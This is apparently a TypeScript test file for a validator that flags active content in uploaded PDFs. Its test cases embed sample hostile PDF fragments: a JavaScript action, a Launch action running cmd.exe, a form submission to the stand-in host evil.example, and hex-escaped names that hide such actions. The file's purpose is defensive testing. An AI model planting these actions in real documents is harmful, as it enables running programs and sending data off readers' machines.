import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { pdfFault } from './pdf-fault.ts'

type Part = string | Buffer
const pdf = (...parts: Part[]) =>
  Buffer.concat(['%PDF-1.7\n', ...parts].map((part) => Buffer.from(part)))
const stream = (dictionary: string, data: Buffer): Buffer =>
  Buffer.concat(
    [`1 0 obj <<${dictionary}>> stream\r\n`, data, '\nendstream endobj\n'].map((part) =>
      Buffer.from(part),
    ),
  )
const objects = (text: string, more = '') =>
  stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${more}`, deflateSync(text))
const page =
  '2 0 obj <</Type /Page /Contents 3 0 R /Annots [<</A <</S /URI /URI (https://bank.example)>>>>]>> endobj\n'

test('a plain PDF is accepted, also with packed objects, pictures and links', async () => {
  const picture = stream('/Subtype /Image /Filter /FlateDecode', deflateSync(Buffer.alloc(9_999)))
  const raw = stream('/Subtype /Image /Filter /DCTDecode', Buffer.from([0xff, 0xd8, 0, 1, 2]))
  for (const file of [pdf(page), pdf(page, picture, raw, objects(page), '%%EOF'), pdf('')]) {
    expect(await pdfFault(file)).toBeUndefined()
  }
})

test.for<[string, string]>([
  ['a script', '<</S /JavaScript /JS (app.alert(1))>>'],
  ['a script in a rendition', '<</S /Rendition /JS (app.alert(1))>>'],
  ['a script of the whole document', '<</Names <</JavaScript 4 0 R>>>>'],
  ['an embedded file', '<</Type /EmbeddedFile>>'],
  ['a list of embedded files', '<</Names <</EmbeddedFiles 5 0 R>>>>'],
  ['an action that starts a program', '<</S /Launch /F (cmd.exe)>>'],
  ['a form with scripts of its own', '<</AcroForm <</XFA 6 0 R>>>>'],
  ['a form that is sent', '<</S/SubmitForm/F(https://evil.example)>>'],
])('%s is refused: as it stands, in other letters and packed', async ([, text]) => {
  const written = text.replace(
    /\/(JavaScript|Rendition|Embedded|Launch|XFA|SubmitForm)/,
    (name) => {
      return `/#${name.charCodeAt(1).toString(16)}${name.slice(2)}`
    },
  )
  expect(written).not.toBe(text)
  for (const one of [text, written]) {
    expect(await pdfFault(pdf(page, `4 0 obj ${one} endobj`))).toBe('file_active')
    expect(await pdfFault(pdf(page, objects(one)))).toBe('file_active')
  }
})

test('objects that cannot be read are refused', async () => {
  const hidden = '<</S /JavaScript>>'
  const unread = [
    objects(hidden, '/DecodeParms <</Predictor 12>>'),
    objects('plain', '/DecodeParms <</Predictor 12>>'),
    stream('/Type /ObjStm /First 4 /Filter /ASCIIHexDecode', Buffer.from('3c3c>')),
    stream('/Type /ObjStm /First 4 /Filter /FlateDecode', Buffer.from('encrypted')),
    stream('/N 1 /#46irst 4 /Filter /FlateDecode', deflateSync(hidden)),
    stream(
      '/Type /ObjStm /First 4 /Filter /FlateDecode',
      deflateSync(Buffer.alloc(65 * 1024 * 1024)),
    ),
    Buffer.from('1 0 obj stream\n'.repeat(20_001)),
  ]
  for (const [at, part] of unread.entries()) {
    expect([at, await pdfFault(pdf(page, part))]).toEqual([at, 'file_active'])
  }
})

test('a stream without a dictionary is refused', async () => {
  expect(await pdfFault(pdf('stream\nnothing before it'))).toBe('file_active')
})

test('a picture has no such objects', async () => {
  expect(await pdfFault(Buffer.from('\u0089PNG /JavaScript'))).toBeUndefined()
})

test('a file that takes long to search is refused at once', async () => {
  // Every "stream" has the same long dictionary before it.
  const repeated = `obj${'#41'.repeat(2_700)}${'stream\n'.repeat(1_100)}`.repeat(17)
  const unpacked = objects('#41'.repeat(7_000_000))
  for (const part of [repeated, unpacked]) {
    const before = performance.now()
    expect(await pdfFault(pdf(part))).toBe('file_active')
    expect(performance.now() - before).toBeLessThan(3_000)
  }
})
